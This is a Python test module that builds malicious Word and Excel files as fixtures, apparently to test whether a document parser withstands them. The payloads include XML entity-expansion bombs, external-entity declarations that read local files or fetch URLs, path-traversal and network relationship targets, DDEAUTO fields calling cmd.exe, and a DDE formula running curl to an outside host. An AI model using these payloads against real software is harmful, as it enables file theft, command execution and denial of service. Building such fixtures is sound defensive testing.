"""Word files and workbooks that point out of themselves, grow without end or contradict themselves."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

import office_files as made
from hostile.case import DOUBTED, READ, REFUSED, Case, Outside

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD_PARTS = {
    "word/document.xml": f"<w:document {W}><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>",
    "word/styles.xml": f"<w:styles {W}>%s</w:styles>",
    "word/numbering.xml": f"<w:numbering {W}>%s</w:numbering>",
    "word/settings.xml": f"<w:settings {W}>%s</w:settings>",
    "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}">%s</Relationships>',
    "_rels/.rels": f'<Relationships xmlns="{PACKAGE}">%s</Relationships>',
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>',
    "docProps/core.xml": "<coreProperties>%s</coreProperties>",
}
SHEET_PARTS = {
    "xl/workbook.xml": f"<workbook {S}><sheets>%s</sheets></workbook>",
    "xl/worksheets/sheet1.xml": f"<worksheet {S}><sheetData><row><c t='inlineStr'><is><t>%s</t></is></c></row>"
    "</sheetData></worksheet>",
    "xl/styles.xml": f"<styleSheet {S}>%s</styleSheet>",
    "xl/sharedStrings.xml": f"<sst {S}><si><t>%s</t></si></sst>",
    "xl/theme/theme1.xml": "<theme>%s</theme>",
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}">%s</Relationships>',
}


def cases(outside: Outside, random: Random) -> Iterator[Case]:
    yield from _entities(outside)
    yield from _word_links(outside)
    yield from _word_shapes(random)
    yield from _sheet_links(outside)
    yield from _sheet_shapes()


def declarations(outside: Outside) -> dict[str, tuple[str, str]]:
    """Document type declarations, and the reference that would make each of them work."""
    laughs = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    return {
        "laughs": (f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>', "&l9;"),
        "quadratic": (f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 20_000),
        "file": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{outside.address}">]>', "&e;"),
        "net": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{outside.url}entity">]>', "&e;"),
        "parameter": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{outside.url}p.dtd"> %p;]>', ""),
        "dtd": (f'<!DOCTYPE x SYSTEM "{outside.url}x.dtd">', ""),
        "public": (f'<!DOCTYPE x PUBLIC "-//X//EN" "{outside.address}">', ""),
        "circle": ('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    }


def _entities(outside: Outside) -> Iterator[Case]:
    plain = {"docx": made.word(made.paragraph(made.run("通知"))), "xlsx": _workbook()}
    parts = {"docx": WORD_PARTS, "xlsx": SHEET_PARTS}
    for ending, package in plain.items():
        for number, (part, content) in enumerate(parts[ending].items()):
            for kind, (declared, used) in list(declarations(outside).items())[number % 2 :: 2]:
                xml = f'<?xml version="1.0"?>{declared}{content % used}'.encode()
                short = part.rpartition("/")[2].partition(".")[0].strip("[]") or "rels"
                yield Case(f"{kind}-{short}.{ending}", made.with_members(package, {part: xml}), frozenset({"failed"}))
    main, body = "word/document.xml", WORD_PARTS["word/document.xml"]
    for kind, (declared, used) in declarations(outside).items():
        for encoding in ("utf-16", "utf-7", "cp037"):
            # In these no byte string "<!DOCTYPE" stands in the file.
            xml = f'<?xml version="1.0" encoding="{encoding}"?>{declared}{body % used}'.encode(encoding)
            if encoding == "utf-7":
                named = xml.replace(b"+ADw?xml version+AD0AIg-1.0+ACI encoding+AD0AIg-utf-7+ACI?+AD4-", b"")
                xml = b'<?xml version="1.0" encoding="utf-7"?>' + named
            yield Case(f"{kind}-{encoding}.docx", made.with_members(plain["docx"], {main: xml}), frozenset({"failed"}))


def _workbook() -> bytes:
    sheet = made.new_sheet("表")
    sheet["A1"] = "通知"
    return made.saved(sheet)


def _word_links(outside: Outside) -> Iterator[Case]:
    """Relationships that lead out of the package, each referred to by the text as its kind is."""
    package = made.word(made.paragraph(made.run("通知")))
    used = {
        "attachedTemplate": "",
        "image": '<w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="rId90"/></w:pict></w:r>',
        "oleObject": '<w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office">'
        '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rId90"/></w:object></w:r>',
        "package": '<w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office">'
        '<o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" r:id="rId90"/></w:object></w:r>',
        "subDocument": '<w:subDoc r:id="rId90"/>',
        "aFChunk": '<w:altChunk r:id="rId90"/>',
        "header": '<w:sectPr><w:headerReference w:type="default" r:id="rId90"/></w:sectPr>',
        "footnotes": '<w:r><w:footnoteReference w:id="2"/></w:r>',
        "numbering": "",
        "styles": "",
        "hyperlink": '<w:hyperlink r:id="rId90"><w:r><w:t>见附件</w:t></w:r></w:hyperlink>',
    }
    targets = {
        "file": (outside.address, "External"),
        "net": (f"{outside.url}part", "External"),
        "share": (rf"\\{outside.url.split('/')[2]}\share\part.xml", "External"),
        "up": ("../" * 12 + str(outside.secret).lstrip("/"), "Internal"),
        "root": (str(outside.secret), "Internal"),
    }
    for kind, reference in used.items():
        for way, (target, mode) in targets.items():
            line = f'<Relationship Id="rId90" Type="{KIND}/{kind}" Target="{target}" TargetMode="{mode}"/>'
            xml = WORD_PARTS["word/document.xml"].replace("<w:document ", f"<w:document {R} ")
            main = (xml % "通知").replace("</w:p>", f"{reference}</w:p>")
            yield Case(
                f"{kind}-{way}.docx",
                made.with_members(
                    package,
                    {
                        "word/document.xml": main.encode(),
                        "word/_rels/document.xml.rels": (WORD_PARTS["word/_rels/document.xml.rels"] % line).encode(),
                    },
                ),
                READ | {"failed"},
            )
    for name, field in {
        "include-text": f"INCLUDETEXT {outside.address}",
        "include-picture": f"INCLUDEPICTURE {outside.url}a.png",
        "dde": f"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe {outside.url}",
        "link": f"LINK Excel.Sheet.12 {outside.address} Sheet1!A1",
    }.items():
        code = f'<w:r><w:instrText xml:space="preserve">{field}</w:instrText></w:r>'
        begin, end = (f'<w:r><w:fldChar w:fldCharType="{edge}"/></w:r>' for edge in ("begin", "end"))
        yield Case(f"{name}.docx", made.word(made.paragraph(begin, code, end, made.run("通知"))), READ)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{outside.address}" parse="text"/>'
    yield Case("xinclude.docx", made.word(made.paragraph(made.run("通知")) + include), READ)
    styled = f'<?xml-stylesheet type="text/xsl" href="{outside.url}a.xsl"?>'
    main = (styled + WORD_PARTS["word/document.xml"] % "通知").encode()
    yield Case("stylesheet.docx", made.with_members(package, {"word/document.xml": main}), READ)


def _word_shapes(random: Random) -> Iterator[Case]:
    """Word files whose structure has no end or no measure."""
    table, row, cell = made.table, made.row, made.cell
    inner = cell("最深")
    for _ in range(300):
        inner = cell(content=table(row(inner)))
    yield Case("tables-in-tables.docx", made.word(table(row(inner))), READ | {"failed"})
    deep = "<w:sdt><w:sdtContent>" * 50_000 + made.paragraph(made.run("深")) + "</w:sdtContent></w:sdt>" * 50_000
    yield Case("controls-in-controls.docx", made.word(deep), READ | {"failed"})
    for span in (10**6, 2**31, -5, 10**30):
        wide = table(row(cell("宽", f'<w:gridSpan w:val="{span}"/>')), row(cell("一"), cell("二")))
        yield Case(f"span-{span}.docx", made.word(wide), READ | {"failed"})
    for before in (10**6, 2**40):
        late = table(row(cell("晚"), properties=f'<w:gridBefore w:val="{before}"/>'))
        yield Case(f"grid-before-{before}.docx", made.word(late), READ | {"failed"})
    million = table(*[row(*[cell(str(column)) for column in range(1000)]) for _ in range(210)])
    yield Case("210000-cells.docx", made.word(million), frozenset({"failed"}))
    staircase = table(*[row(*[cell("", "<w:vMerge/>")] * 100) for _ in range(60)])
    yield Case("merged-without-a-start.docx", made.word(staircase), READ | {"failed"})
    yield Case("one-paragraph.docx", made.word(made.paragraph(made.run("绩效" * 110_000))), REFUSED)
    runs = "".join(made.run(chr(0x4E00 + random.randrange(5000))) for _ in range(10_000))
    yield Case("10000-runs.docx", made.word(made.paragraph(runs)), READ | {"failed"})
    levels = "".join(
        f'<w:abstractNum w:abstractNumId="{number}"><w:numStyleLink w:val="s{number}"/></w:abstractNum>'
        for number in range(50)
    )
    nums = "".join(f'<w:num w:numId="{number}"><w:abstractNumId w:val="{number}"/></w:num>' for number in range(50))
    listed = '<w:numPr><w:ilvl w:val="99999999"/><w:numId w:val="1"/></w:numPr>'
    body = made.paragraph(made.run("项"), properties=listed)
    yield Case("numbering-circle.docx", made.word(body, numbering=levels + nums), READ | {"failed"})
    start = (
        '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="99999999999999"/>'
        '<w:numFmt w:val="lowerRoman"/><w:lvlText w:val="%1.%1.%1"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    )
    listed = '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'
    body = made.paragraph(made.run("项"), properties=listed) * 50
    yield Case("giant-numbers.docx", made.word(body, numbering=start), READ | {"failed"})
    based = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{number}"><w:basedOn w:val="s{(number + 1) % 9}"/></w:style>'
        for number in range(9)
    )
    circle = (WORD_PARTS["word/styles.xml"] % based).encode()
    styled = made.word(made.paragraph(made.run("通知"), properties='<w:pStyle w:val="s0"/>'))
    yield Case("styles-circle.docx", made.with_members(styled, {"word/styles.xml": circle}), READ | {"failed"})
    own = f'<Relationship Id="rId1" Type="{KIND}/header" Target="document.xml"/>'
    itself = {"word/_rels/document.xml.rels": (WORD_PARTS["word/_rels/document.xml.rels"] % own).encode()}
    yield Case(
        "its-own-header.docx", made.with_members(made.word(made.paragraph(made.run("甲"))), itself), READ | {"failed"}
    )
    workbook = _workbook()
    for _ in range(4):
        workbook = made.with_members(workbook, {"xl/embeddings/a.xlsx": workbook})
    yield Case(
        "workbook-in-workbook.docx",
        made.word(
            made.paragraph(
                '<w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office">'
                '<o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" r:id="rId77"/></w:object></w:r>'
            ),
            embedded={"rId77": workbook},
        ),
        READ | {"failed"},
    )
    attributes = " ".join(f'w:a{number}="1"' for number in range(60_000))
    yield Case("60000-attributes.docx", made.word(f"<w:p {attributes}/>"), READ | {"failed"})
    for control in ("&#0;", "&#x1F;", "&#xFFFF;", "\x08"):
        broken = made.with_members(
            made.word(made.paragraph(made.run("甲"))),
            {"word/document.xml": (WORD_PARTS["word/document.xml"] % control).encode()},
        )
        yield Case(f"control-{control.encode().hex()}.docx", broken, DOUBTED)


def _sheet_links(outside: Outside) -> Iterator[Case]:
    package = _workbook()
    formulas = {
        "webservice": f'WEBSERVICE("{outside.url}formula")',
        "external": f"'[{outside.address}]Sheet1'!$A$1",
        "dde": f"cmd|'/c curl {outside.url}'!A0",
        "hyperlink": f'HYPERLINK("{outside.url}")',
        "import": f'IMPORTDATA("{outside.url}")',
    }
    for name, formula in formulas.items():
        written = formula.replace("&", "&amp;").replace('"', "&quot;")
        for value in ("", "<v>7</v>"):
            xml = (
                f"<worksheet {S}><sheetData><row r='1'><c r='A1'><f>{written}</f>{value}</c></row></sheetData>"
                "</worksheet>"
            )
            changed = made.with_members(package, {"xl/worksheets/sheet1.xml": xml.encode()})
            yield Case(f"{name}{'-valued' if value else ''}.xlsx", changed, READ)
    for way, (target, mode) in {
        "file": (outside.address, "External"),
        "net": (f"{outside.url}book.xlsx", "External"),
        "up": ("../" * 12 + str(outside.secret).lstrip("/"), "Internal"),
    }.items():
        for kind in ("externalLink", "externalLinkPath", "connections", "sharedStrings", "styles", "worksheet"):
            line = (
                f'<Relationship Id="rId1" Type="{KIND}/{"worksheet" if kind != "worksheet" else "chartsheet"}" '
                f'Target="worksheets/sheet1.xml"/>'
                f'<Relationship Id="rId9" Type="{KIND}/{kind}" Target="{target}" TargetMode="{mode}"/>'
            )
            book = (
                f"<workbook {S} {R}><sheets><sheet name='表' sheetId='1' "
                f"r:id='{'rId9' if kind == 'worksheet' else 'rId1'}'/></sheets>"
                "<externalReferences><externalReference r:id='rId9'/></externalReferences></workbook>"
            )
            changes = {
                "xl/workbook.xml": book.encode(),
                "xl/_rels/workbook.xml.rels": (SHEET_PARTS["xl/_rels/workbook.xml.rels"] % line).encode(),
            }
            yield Case(f"{kind}-{way}.xlsx", made.with_members(package, changes), READ | {"failed"})


def _sheet_shapes() -> Iterator[Case]:
    package = _workbook()

    def sheet(data: str, behind: str = "", before: str = "") -> bytes:
        xml = f"<worksheet {S}>{before}<sheetData>{data}</sheetData>{behind}</worksheet>"
        return made.with_members(package, {"xl/worksheets/sheet1.xml": xml.encode()})

    near = "<row r='1'><c r='A1' t='inlineStr'><is><t>近</t></is></c></row>"
    far = near + "<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>"
    yield Case("far-cell.xlsx", sheet(far), frozenset({"failed"}))
    beyond = "<row r='99999999999'><c r='ZZZZZZ99999999999'><v>1</v></c></row>"
    yield Case("beyond.xlsx", sheet(beyond), frozenset({"failed"}))
    yield Case(
        "dimension.xlsx",
        sheet("<row r='1'><c r='A1'><v>1</v></c></row>", before="<dimension ref='A1:XFD1048576'/>"),
        READ,
    )
    merge = "<mergeCells><mergeCell ref='A1:XFD1048576'/></mergeCells>"
    yield Case("merged-all.xlsx", sheet("<row r='1'><c r='A1'><v>1</v></c></row>", merge), frozenset({"failed"}))
    many = (
        "<mergeCells>" + "".join(f"<mergeCell ref='A{row}:Z{row + 40}'/>" for row in range(1, 20_000)) + "</mergeCells>"
    )
    yield Case("merges-over-merges.xlsx", sheet("<row r='1'><c r='A1'><v>1</v></c></row>", many), frozenset({"failed"}))
    for value in ("1e400", "NaN", "-1e308", "9" * 400, "0x10", "1e-400", "1_000"):
        yield Case(
            f"value-{value[:9]}.xlsx", sheet(f"<row r='1'><c r='A1'><v>{value}</v></c></row>"), READ | {"failed"}
        )
    for index in ("999999999", "-1", "a"):
        yield Case(
            f"string-{index}.xlsx", sheet(f"<row r='1'><c r='A1' t='s'><v>{index}</v></c></row>"), READ | {"failed"}
        )
        yield Case(
            f"style-{index}.xlsx", sheet(f"<row r='1'><c r='A1' s='{index}'><v>1</v></c></row>"), READ | {"failed"}
        )
    code = "0." + "0" * 5000 + ";" + "[>1]" * 3000
    styles = (
        f"<styleSheet {S}><numFmts count='1'>"
        f"<numFmt numFmtId='200' formatCode='{code.replace('>', '&gt;')}'/></numFmts>"
        "<fonts><font/></fonts><fills><fill/></fills><borders><border/></borders><cellStyleXfs><xf/></cellStyleXfs>"
        "<cellXfs><xf numFmtId='200'/></cellXfs></styleSheet>"
    )
    formatted = made.with_members(
        sheet("<row r='1'><c r='A1' s='0'><v>1.5</v></c></row>"), {"xl/styles.xml": styles.encode()}
    )
    yield Case("endless-format.xlsx", formatted, READ | {"failed"})
    yield Case(
        "date-beyond.xlsx", sheet("<row r='1'><c r='A1' t='d'><v>99999-99-99T99:99</v></c></row>"), READ | {"failed"}
    )
    chain = bytearray(made.ole({"Workbook": made.biff("表", ["General"], {(0, 0): ("甲", 0)}, [])}))
    for at, name in ((30, "sector-size"), (44, "table-count"), (48, "directory"), (60, "short-table"), (68, "master")):
        broken = bytearray(chain)
        broken[at : at + 4] = b"\xff\xff\xff\x7f"
        yield Case(f"ole-{name}.xls", bytes(broken), REFUSED | READ)
    for row, column in ((65535, 255), (65535, 16383)):
        far_xls = made.ole({"Workbook": made.biff("表", ["General"], {(0, 0): ("甲", 0), (row, column): (1.0, 0)}, [])})
        yield Case(f"far-{column}.xls", far_xls, READ | {"failed"})
    merged = made.ole({"Workbook": made.biff("表", ["General"], {(0, 0): ("甲", 0)}, [(0, 0, 65535, 255)] * 50)})
    yield Case("merged-all.xls", merged, READ | {"failed"})
    locked = made.ole({"Workbook": made.biff("表", ["General"], {(0, 0): ("甲", 0)}, [], locked=True)})
    yield Case("locked.xls", locked, frozenset({"encrypted"}))
    yield Case("package.docx", made.ole({"EncryptedPackage": b"\0" * 64}), frozenset({"encrypted"}))
